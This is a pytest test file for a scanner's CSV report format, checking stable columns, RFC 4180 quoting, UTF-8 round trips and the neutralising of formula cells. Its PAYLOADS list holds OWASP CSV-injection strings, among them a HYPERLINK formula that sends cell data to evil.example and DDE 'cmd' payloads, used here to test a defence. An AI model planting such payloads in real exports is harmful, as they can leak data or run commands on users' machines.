"""`--format csv`: stable columns, RFC 4180 quoting, UTF-8, and no formula a spreadsheet would run.

The hostile cells are the payloads OWASP's "CSV Injection" page lists (=HYPERLINK, +, -,
@SUM, a leading tab or carriage return), planted where a job's owner controls the text:
its name (through the message) and a waiver reason.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from smscan.models import Evidence, Location, Status, Waiver
from smscan.reports import RenderOptions
from smscan.reports.csv_report import COLUMNS, neutralise
from tests.cli_helpers import run_cli
from tests.factories import make_finding, make_result
from tests.report_helpers import render as render_report

NOW = "2026-11-24T10:00:02Z"
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_header_is_the_stable_column_list() -> None:
    text = render_report("csv", make_result([]), RenderOptions(generated_at=NOW))
    assert text == ",".join(COLUMNS) + "\r\n"
    assert COLUMNS[:8] == ("policy_id", "title", "severity", "status", "job_name", "job_arn", "account_id", "region")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralised(payload: str) -> None:
    f = dataclasses.replace(make_finding(status=Status.WAIVED), message=payload, waiver=Waiver(payload, owner=payload))
    (row,) = parse(render_report("csv", make_result([f]), RenderOptions(generated_at=NOW)))
    for column in ("message", "waiver_reason", "waiver_owner"):
        assert row[column] == "'" + payload
        assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert neutralise("plain") == "plain" and neutralise("a=b") == "a=b"


def test_quotes_commas_newlines_and_utf8_survive_a_round_trip() -> None:
    message = 'Job "Ünïcode, ジョブ"\nsecond line'
    evidence = (Evidence("$.tags", "has", "owner", ({"team": "ml, ops"},), False),)
    f = dataclasses.replace(make_finding(), message=message, evidence=evidence, location=Location("train.json", 7))
    text = render_report("csv", make_result([f]), RenderOptions(generated_at=NOW))
    assert '"Job ""Ünïcode, ジョブ""\nsecond line"' in text  # RFC 4180: quoted, quotes doubled
    (row,) = parse(text)
    assert row["message"] == message
    assert row["evidence_path"] == "$.tags" and row["evidence_value"] == '{"team": "ml, ops"}'
    assert row["location"] == "train.json:7"
    assert text.encode("utf-8").decode("utf-8") == text and not text.startswith("\ufeff")


def test_cli_writes_utf8_csv_with_crlf_rows(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = Path(__file__).resolve().parents[1] / "scanner" / "data"
    out = tmp_path / "r.csv"
    code, _, _ = run_cli(capsys, "scan", "--input", data / "demo_fleet.jsonl", "--config", data / "demo-config.yaml", "--format", "csv", "-o", out)
    assert code == 1
    raw = out.read_bytes()
    assert raw.startswith(",".join(COLUMNS).encode() + b"\r\n")
    rows = parse(raw.decode("utf-8"))
    assert rows and {r["status"] for r in rows} <= {"FAIL", "ERROR", "WAIVED", "UNKNOWN", "NOT_APPLICABLE"}
    assert all(r["job_arn"].startswith("arn:aws:sagemaker:") for r in rows)


@settings(max_examples=60)
@given(text=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40))
def test_any_text_round_trips_and_never_starts_a_formula(text: str) -> None:
    f = dataclasses.replace(make_finding(), message=text)
    (row,) = parse(render_report("csv", make_result([f]), RenderOptions(generated_at=NOW)))
    assert row["message"] in (text, "'" + text)
    assert not row["message"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_unknown_is_its_own_status_never_a_pass() -> None:
    f = make_finding(status=Status.UNKNOWN)
    (row,) = parse(render_report("csv", make_result([f]), RenderOptions(generated_at=NOW)))
    assert row["status"] == "UNKNOWN"
